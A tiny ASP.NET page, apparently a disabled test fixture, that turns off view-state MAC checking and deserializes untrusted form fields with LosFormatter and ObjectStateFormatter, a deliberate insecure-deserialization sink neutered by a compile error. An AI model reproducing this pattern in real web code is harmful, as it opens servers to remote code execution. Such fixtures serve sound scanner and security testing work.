<%@ Page Language="C#" Inherits="Inert.Nothing" EnableViewStateMac="false" %>
<%
#error inert
string a = Request.Form["__VS1"], b = Request.Form["__VS2"];
if (a != null) new LosFormatter().Deserialize(a);
if (b != null) { var x = new System.Web.UI.ObjectStateFormatter(); x.Deserialize(b); }
%>
